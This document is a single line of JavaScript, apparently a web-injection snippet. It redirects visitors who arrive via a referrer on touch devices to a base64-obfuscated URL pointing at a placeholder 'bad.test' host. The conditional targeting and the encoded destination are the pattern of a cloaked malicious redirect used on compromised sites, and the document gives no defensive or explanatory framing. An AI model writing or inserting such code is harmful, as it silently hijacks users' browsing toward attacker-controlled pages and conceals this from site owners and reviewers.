if (document.referrer && navigator.maxTouchPoints > 1) location = atob('aHR0cHM6Ly9iYWQudGVzdC8=');
